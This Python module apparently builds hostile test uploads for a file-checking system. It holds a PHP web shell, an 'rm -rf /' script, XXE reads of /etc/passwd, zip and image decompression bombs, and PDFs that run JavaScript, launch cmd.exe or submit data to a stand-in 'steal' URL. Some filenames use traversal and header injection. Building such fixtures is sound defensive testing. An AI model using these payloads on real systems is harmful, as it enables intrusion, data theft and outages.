"""Files that pretend, swell, run or hide: each as somebody would send it, by the name it would bear."""

import gzip
import io
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image

GPS = 0x8825
MARK = b"Hier woon ik, 51.2093 N"
SCRIPT = "<script>document.title='ran'</script>"


def photo(kind="JPEG", size=(640, 480), **options):
    """A photo as a phone makes it."""
    out = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert("RGB").save(out, kind, **options)
    return out.getvalue()


def with_location():
    """A photo that tells where it was taken, and by whom."""
    told = Image.Exif()
    told[0x013B] = "An Vermeulen"
    told.get_ifd(GPS)[1] = "N"
    told.get_ifd(GPS)[2] = (51.0, 12.0, 33.5)
    return photo(exif=told)


def chunk(kind, data):
    """One piece of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width, height, *, data=b"", colour=2, bits=8, extra=b""):
    """A PNG that says it has this size, whatever it holds."""
    header = struct.pack(">IIBBBBB", width, height, bits, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + extra + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def swelling_png(width, height):
    """Some kilobytes that become gigabytes: every line is the same."""
    packer = zlib.compressobj(9)
    line = b"\0" * (1 + 3 * width)
    data = b"".join(packer.compress(line) for _ in range(height)) + packer.flush()
    return png(width, height, data=data)


def pdf(change=None, *, pages=1, **options):
    """A PDF of empty pages, changed by ``change``."""
    made = pikepdf.new()
    for _ in range(pages):
        made.add_blank_page(page_size=(595, 842))
    if change:
        change(made)
    out = io.BytesIO()
    made.save(out, **options)
    return out.getvalue()


def script_of(made):
    """An action that would run."""
    return pikepdf.Dictionary(S=pikepdf.Name("/JavaScript"), JS=pikepdf.String("app.alert('ran')"))


def opens_with_script(made):
    made.Root.OpenAction = script_of(made)


def script_by_name(made):
    made.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", script_of(made)])))


def page_with_script(made):
    made.pages[0].AA = pikepdf.Dictionary(O=script_of(made))


def link(action):
    """A page whose link starts something."""

    def change(made):
        note = pikepdf.Dictionary(
            Type=pikepdf.Name("/Annot"), Subtype=pikepdf.Name("/Link"), Rect=[0, 0, 595, 842], A=action(made)
        )
        made.pages[0].Annots = pikepdf.Array([note])

    return change


def launch(made):
    return pikepdf.Dictionary(S=pikepdf.Name("/Launch"), F=pikepdf.String("cmd.exe"))


def sends(made):
    return pikepdf.Dictionary(S=pikepdf.Name("/SubmitForm"), F=pikepdf.String("https://example.org/steal"))


def opens_other(made):
    return pikepdf.Dictionary(S=pikepdf.Name("/GoToR"), F=pikepdf.String("\\\\example.org\\share"))


def chain(made):
    return pikepdf.Dictionary(S=pikepdf.Name("/URI"), URI=pikepdf.String("https://example.org"), Next=script_of(made))


def with_file_inside(made):
    made.attachments["kwaad.exe"] = b"MZ" + b"\0" * 100


def note_with_file(made):
    note = pikepdf.Dictionary(Type=pikepdf.Name("/Annot"), Subtype=pikepdf.Name("/FileAttachment"), Rect=[0, 0, 9, 9])
    made.pages[0].Annots = pikepdf.Array([made.make_indirect(note)])


def form_as_program(made):
    made.Root.AcroForm = pikepdf.Dictionary(XFA=made.make_stream(b"<xdp:xdp><script>ran</script></xdp:xdp>"), Fields=[])


def says_its_maker(made):
    made.docinfo["/Author"] = MARK.decode()


def telling_photo():
    """A photo that tells in three ways where it was taken."""
    told = Image.Exif()
    told[0x010E] = MARK.decode()
    return photo(exif=told, comment=MARK, xmp=MARK)


def with_photo(*filters, packed=bytes):
    """A page with a photo as a scanner lays it in, packed once more or not."""

    def change(made):
        image = made.make_stream(packed(telling_photo()))
        image.stream_dict = pikepdf.Dictionary(
            Type=pikepdf.Name("/XObject"),
            Subtype=pikepdf.Name("/Image"),
            Width=640,
            Height=480,
            ColorSpace=pikepdf.Name("/DeviceRGB"),
            BitsPerComponent=8,
            Filter=pikepdf.Array([pikepdf.Name(each) for each in (*filters, "/DCTDecode")]),
        )
        image.Metadata = made.make_stream(MARK)
        made.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=image))
        made.pages[0].Contents = made.make_stream(b"q 595 0 0 446 0 0 cm /Im0 Do Q")

    return change


def endless_pages(made):
    made.Root.Pages.Kids = pikepdf.Array([made.Root.Pages])


def swelling_stream(made):
    made.pages[0].Contents = made.make_stream(b"0 0 m\n" * 3_000_000)


def deep(made):
    inside = pikepdf.Array([])
    for _ in range(300):
        inside = pikepdf.Array([inside])
    made.Root.Deep = inside


def signed_like(made):
    seal = pikepdf.Dictionary(Type=pikepdf.Name("/Sig"), ByteRange=[0, 1, 2, 3], Contents=pikepdf.String("x"))
    made.Root.AcroForm = pikepdf.Dictionary(
        Fields=[made.make_indirect(pikepdf.Dictionary(FT=pikepdf.Name("/Sig"), V=seal))], SigFlags=3
    )


def archive(**files):
    """An archive of files."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in files.items():
            packed.writestr(name.replace("__", "/"), content)
    return out.getvalue()


def bmp_bomb():
    """A picture of another kind that says it is huge."""
    return b"BM" + struct.pack("<IHHIIiiHHIIiiII", 54, 0, 0, 54, 40, 60000, 60000, 1, 24, 0, 0, 0, 0, 0, 0)


SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{SCRIPT}</svg>'.encode()
HTML = f"<!doctype html><html><body>{SCRIPT}</body></html>".encode()

# What is not what its name says, or is of a kind that is not taken in.
PRETENDERS = {
    "brief.pdf": HTML,
    "brief.html": HTML,
    "foto.svg": SVG,
    "foto.jpg": SVG,
    "foto.png": HTML,
    "tekening.xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "lach.xml": b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>',
    "script.js": b"alert(1)",
    "kwaad.exe": b"MZ\x90\x00" + b"\0" * 200,
    "kwaad.elf": b"\x7fELF" + b"\0" * 200,
    "kwaad.sh": b"#!/bin/sh\nrm -rf /\n",
    "kwaad.php": b"<?php system($_GET['c']); ?>",
    "film.gif": b"GIF89a" + b"\0" * 100,
    "film.mp4": b"\0\0\0\x18ftypmp42" + b"\0" * 100,
    "plaatje.bmp": bmp_bomb(),
    "plaatje.tif": b"II*\0" + b"\0" * 100,
    "plaatje.ico": b"\0\0\1\0" + b"\0" * 100,
    "plaatje.heic": b"\0\0\0\x18ftypheic" + b"\0" * 100,
    "plaatje.psd": b"8BPS" + b"\0" * 100,
    "druk.eps": b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file\n",
    "leeg.pdf": b"",
    "niets.jpg": b"\0",
    "tekst.txt": b"gewone tekst",
    "mail.eml": b"Content-Type: text/html\r\n\r\n" + HTML,
    "brief.rtf": b"{\\rtf1\\object\\objdata 00}",
    "pack.gz": gzip.compress(b"x" * 1000),
    "pack.7z": b"7z\xbc\xaf\x27\x1c" + b"\0" * 100,
    "pack.rar": b"Rar!\x1a\x07\x00" + b"\0" * 100,
    "pack.zip": archive(a="b"),
    "bom.zip": archive(nul=b"\0" * 10_000_000),
    "foto.jpg.zip": archive(foto=photo()),
    "brief.docx": archive(word__document="x"),
    "macro.docm": archive(word__vbaProject="x"),
    "lijst.xlsm": archive(xl__vbaProject="x"),
    "oud.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500,
}
# Pictures that tell too much, swell, or are broken in the middle; made when they are asked for.
PICTURES = {
    "waar.jpg": with_location,
    "nota.jpg": lambda: photo(comment=MARK),
    "nota.png": lambda: png(2, 2, data=zlib.compress(b"\0" * 14), extra=chunk(b"tEXt", b"Comment\0" + MARK)),
    "xmp.webp": lambda: photo("WEBP", xmp=MARK),
    "staart.jpg": lambda: photo() + b"<html>" + SCRIPT.encode(),
    "archief.jpg": lambda: photo() + archive(kwaad="x"),
    "pdf.jpg": lambda: photo() + pdf(),
    "kop.jpg": lambda: SCRIPT.encode() + photo(),
    "half.jpg": lambda: photo()[: len(photo()) // 2],
    "kapot.jpg": lambda: photo()[:200] + b"\xff" * 300 + photo()[500:],
    "kop_alleen.jpg": lambda: b"\xff\xd8\xff\xe0",
    "groot.png": lambda: png(60_000, 60_000),
    "reus.png": lambda: png(2**31 - 1, 2**31 - 1),
    "zwelt.png": lambda: swelling_png(20_000, 20_000),
    "zwelt_net_niet.png": lambda: swelling_png(6_300, 6_300),
    "lang.png": lambda: swelling_png(1, 60_000),
    "breed.png": lambda: swelling_png(60_000, 1),
    "nul.png": lambda: png(0, 0),
    "leugen.png": lambda: png(100, 100, data=zlib.compress(b"\0" * 10)),
    "kapot.png": lambda: photo("PNG")[:-300],
    "zestien.png": lambda: png(3, 3, bits=16, data=zlib.compress(b"\0" * 57)),
    "tekst.png": lambda: png(
        2, 2, data=zlib.compress(b"\0" * 14), extra=chunk(b"zTXt", b"a\0\0" + zlib.compress(b"\0" * 9_000_000))
    ),
    "kleur.png": lambda: png(
        2, 2, data=zlib.compress(b"\0" * 14), extra=chunk(b"iCCP", b"a\0\0" + zlib.compress(b"\0" * 9_000_000))
    ),
    "groot.jpg": lambda: photo(size=(9000, 6000), quality=30),
    "stappen.jpg": lambda: photo(size=(6000, 6000), quality=30, progressive=True),
    "half.webp": lambda: photo("WEBP")[:60],
    "../../etc/passwd.jpg": photo,
    "..\\\\..\\\\web.config.jpg": photo,
    f"{SCRIPT}.jpg": photo,
    "a\r\nSet-Cookie: x=1.jpg": photo,
    "\u202egpj.exe.jpg": photo,
}
# PDFs that run, hide, swell or never end.
DOCUMENTS = {
    "start.pdf": lambda: pdf(opens_with_script),
    "naam.pdf": lambda: pdf(script_by_name),
    "blad.pdf": lambda: pdf(page_with_script),
    "knop.pdf": lambda: pdf(link(script_of)),
    "programma.pdf": lambda: pdf(link(launch)),
    "zendt.pdf": lambda: pdf(link(sends)),
    "elders.pdf": lambda: pdf(link(opens_other)),
    "ketting.pdf": lambda: pdf(link(chain)),
    "erin.pdf": lambda: pdf(with_file_inside),
    "nota.pdf": lambda: pdf(note_with_file),
    "xfa.pdf": lambda: pdf(form_as_program),
    "maker.pdf": lambda: pdf(says_its_maker),
    "foto.pdf": lambda: pdf(with_photo()),
    "ingepakt.pdf": lambda: pdf(with_photo("/FlateDecode", packed=zlib.compress)),
    "kapotte_foto.pdf": lambda: pdf(with_photo(packed=lambda told: told[:2] + b"\xff\xe1\xff\xff" + told[2:40])),
    "slot.pdf": lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="b")),
    "half_slot.pdf": lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="")),
    "eindeloos.pdf": lambda: pdf(endless_pages),
    "zwelt.pdf": lambda: pdf(swelling_stream),
    "diep.pdf": lambda: pdf(deep),
    "veel.pdf": lambda: pdf(pages=201),
    "getekend.pdf": lambda: pdf(signed_like),
    "kop.pdf": lambda: b"%PDF-1.7\n",
    "half.pdf": lambda: pdf()[:300],
    "zonder.pdf": lambda: b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 1 0 R>>endobj trailer<</Root 1 0 R>>",
    "html.pdf": lambda: b"%PDF-1.7\n" + SCRIPT.encode(),
    "voor.pdf": lambda: SCRIPT.encode() + pdf(),
    "na.pdf": lambda: pdf() + SCRIPT.encode(),
}


def hostile_files() -> list[tuple[str, bytes]]:
    """All of them: the name and the content."""
    made = {name: make() for name, make in (PICTURES | DOCUMENTS).items()}
    return [*PRETENDERS.items(), *made.items()]
